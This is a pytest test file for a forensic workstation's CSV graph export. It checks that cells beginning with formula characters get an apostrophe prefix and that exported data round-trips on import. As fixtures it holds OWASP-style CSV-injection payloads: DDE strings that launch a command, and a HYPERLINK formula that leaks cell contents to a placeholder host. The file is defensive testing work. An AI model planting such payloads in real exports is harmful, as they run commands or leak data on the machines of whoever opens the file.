"""CSV injection: no exported cell starts a formula, and the export imports back."""

from __future__ import annotations

import csv

import pytest

from workstation.security.csv_cells import FORMULA_STARTS, escape_cell
from workstation.services.cases import create_case
from workstation.services.graph import case_graph
from workstation.services.graph_interchange import export_graph, import_edge_list

#: Names as they come in a seized phone book, after OWASP's CSV-injection page.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
]
PLAIN = ["'already quoted", "王伟", "13800138000", "Anna-Lena"]


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_a_cell_starting_a_formula_gets_an_apostrophe(start):
    assert escape_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["王伟", "13800138000", "2024-03-01T10:00:00", 2.5])
def test_other_cells_are_left_as_they_are(value):
    assert escape_cell(value) == str(value)


def test_graph_csv_export_escapes_formulas_and_imports_back(workspace, tmp_path):
    create_case(workspace, "X-1", "电话簿里的公式")
    source = tmp_path / "contacts.csv"
    names = FORMULAS + PLAIN
    with open(source, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        for i, name in enumerate(names):
            writer.writerow([name, names[(i + 1) % len(names)], i + 1])
    imported = import_edge_list(workspace, "X-1", source, delimiter=",")
    assert imported.rows_loaded == len(names)

    exported = export_graph(workspace, "X-1", tmp_path / "边表.csv")
    with open(exported, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(names)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for name in [*FORMULAS, "'already quoted"]:
        assert "'" + name in cells  # as a key and as a label
    assert "王伟" in cells and "13800138000" in cells

    create_case(workspace, "X-2", "导回")
    import_edge_list(workspace, "X-2", exported, delimiter=",", header=True)
    keys = {
        case: sorted(d["key"] for _, d in case_graph(workspace, case).nodes(data=True))
        for case in ("X-1", "X-2")
    }
    assert keys["X-2"] == keys["X-1"] == sorted(names)
